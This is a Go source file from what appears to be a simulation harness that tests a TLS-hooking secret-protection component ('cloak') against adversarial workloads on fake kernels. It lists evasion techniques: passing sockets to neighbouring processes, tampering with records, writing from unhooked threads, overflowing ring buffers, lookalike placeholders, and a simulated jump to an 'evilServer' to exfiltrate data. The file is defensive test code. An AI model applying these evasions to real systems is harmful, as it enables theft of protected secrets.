package cloak

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/seedbed-sim/seedbed/core/cloak/patch"
	"github.com/seedbed-sim/seedbed/fakes/kernel"
	"github.com/seedbed-sim/seedbed/fakes/nri"
)

// process returns the process of a workload that makes the next connection, and what is to
// be done when it is over.
func (s *State) process(w *work, run *nri.Running) (pid int, done func(), err error) {
	k := w.node.kernel
	switch w.config.Manner {
	case "exec":
		// A shell starts a program for each request.
		child := k.Fork(run.Cgroup, run.Netns)
		k.Exec(child, curl)
		return child, func() { k.Exit(child) }, nil
	case "debug":
		if w.debug == 0 {
			if w.debug, err = s.debugContainer(w, run); err != nil {
				return 0, nil, err
			}
		}
		return w.debug, func() {}, nil
	}
	return run.PID, func() {}, nil
}

// errNobody is returned while there is no other workload on the node.
var errNobody = errors.New("nobody else is there")

// write lets a workload write a request, in its manner.
func (s *State) write(x *exchange, run *nri.Running) (err error) {
	k, w := x.work.node.kernel, x.work
	text := []byte(x.text)
	if w.config.HTTP2 {
		if text, err = x.encode(x.text); err != nil {
			return err
		}
	}
	t := kernel.Thread{PID: x.pid, TID: x.pid}
	switch w.config.Manner {
	case "pass":
		// The process of somebody else gets the socket.
		other := s.neighbour(w)
		if other == nil {
			return errNobody
		}
		x.end, err = x.socket.Write(other.run.PID, other.code(), text)
		return err
	case "longjmp":
		return s.leap(x, t, text)
	case "tamper-text":
		k.Enter(t, w.code(), text)
		defer k.Return(t)
		buf := x.socket.Seal(w.blanked(text))
		x.end, err = x.socket.Send(t, buf, buf)
		return err
	case "tamper-record":
		x.racing = true
		k.Enter(t, w.code(), text)
		defer k.Return(t)
		buf := x.socket.Seal(text)
		other := bytes.Clone(buf)
		other[s.random.Intn(len(other))] ^= 1
		x.end, err = x.socket.Send(t, buf, other)
		return err
	case "memory-bio":
		k.Enter(t, w.code(), text)
		buf := x.socket.Seal(text)
		k.Return(t)
		x.end, err = x.socket.Send(kernel.Thread{PID: x.pid, TID: x.pid + 1}, buf, buf)
		return err
	case "pipeline":
		// More records are under way than there is room for.
		for range 2 * patch.RingMax {
			if x.end, err = x.socket.Write(x.pid, w.code(), text); err != nil {
				return err
			}
		}
		return nil
	case "lookalike":
		// Each placeholder is there three times: cut short, with another end, and right.
		for _, use := range w.config.Uses {
			p := w.env[use+"_k"]
			if len(p) > 0 {
				text = append([]byte(p[:len(p)-1]+" "+p[:len(p)-1]+"! "), text...)
			}
		}
	case "serve":
		return s.serve(x, text, run)
	}
	x.end, err = x.socket.Write(x.pid, w.code(), text)
	return err
}

// blanked is a text of a workload with nothing where its placeholders are.
func (w *work) blanked(text []byte) []byte {
	for _, use := range w.config.Uses {
		p := w.env[use+"_k"]
		text = bytes.ReplaceAll(text, []byte(p), bytes.Repeat([]byte(" "), len(p)))
	}
	return text
}

// leap lets a thread leave the write function of one connection by a jump, and then write
// as many bytes to an evil server with code that is not hooked.
func (s *State) leap(x *exchange, t kernel.Thread, text []byte) (err error) {
	k, master := x.work.node.kernel, s.master(x.work)
	k.Enter(t, x.work.code(), text)
	x.socket.Close()
	x.dialled, x.sni = netip.AddrPortFrom(evilServer, 443), evil
	if x.socket, err = k.Connect(kernel.Dial{PID: t.PID, Destination: x.dialled, ServerName: x.sni, Suite: kernel.AESGCM, Master: master}); err != nil {
		return err
	}
	if err := s.meet(x.connection, master); err != nil {
		return err
	}
	x.una, x.acked, x.left = 0, 0, nil
	buf := x.socket.Seal([]byte(strings.Repeat("x", len(text))))
	k.Enter(t, rustls, text)
	x.end, err = x.socket.Send(t, buf, buf)
	k.ExitThread(t)
	return err
}

// serve lets a workload answer a client of its own with what it would have sent.
func (s *State) serve(x *exchange, text []byte, run *nri.Running) (err error) {
	master := s.master(x.work)
	x.socket.Close()
	x.dialled = netip.AddrPortFrom(evilServer, uint16(portOf(x.work.config)))
	if x.socket, err = x.work.node.kernel.Accept(run.PID, x.dialled, master); err != nil {
		return err
	}
	if err := s.meet(x.connection, master); err != nil {
		return err
	}
	x.una, x.acked, x.left = 0, 0, nil
	x.end, err = x.socket.Write(run.PID, x.work.code(), text)
	return err
}

// neighbour is another workload that runs on the same node.
func (s *State) neighbour(w *work) *work {
	for _, other := range s.works {
		if other != w && other.node == w.node && other.run != nil {
			return other
		}
	}
	return nil
}

// addEphemeral makes the API know of an ephemeral container that runs.
func (s *State) addEphemeral(w *work, id string) error {
	ctx, admin := context.Background(), s.world.Admin()
	var p corev1.Pod
	if err := admin.Get(ctx, client.ObjectKey{Namespace: Namespace, Name: w.config.Name}, &p); err != nil {
		return err
	}
	p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
		Name: "debug", Image: "debug", ImagePullPolicy: corev1.PullIfNotPresent, TerminationMessagePolicy: corev1.TerminationMessageReadFile,
	}}}
	if err := admin.SubResource("ephemeralcontainers").Update(ctx, &p); err != nil {
		return err
	}
	p.Status.EphemeralContainerStatuses = []corev1.ContainerStatus{{
		Name: "debug", ContainerID: "containerd://" + id, State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}},
	}}
	return admin.Status().Update(ctx, &p)
}

// debugContainer starts an ephemeral container in a Pod, which refers to nothing, and
// returns its process.
func (s *State) debugContainer(w *work, run *nri.Running) (pid int, err error) {
	id := run.Sandbox.ID + "-debug"
	if err := s.addEphemeral(w, id); err != nil {
		return 0, fmt.Errorf("debug Pod %s: %w", w.config.Name, err)
	}
	k := w.node.kernel
	return k.Fork(k.AddCgroup(w.uid, id, image), run.Netns), nil
}
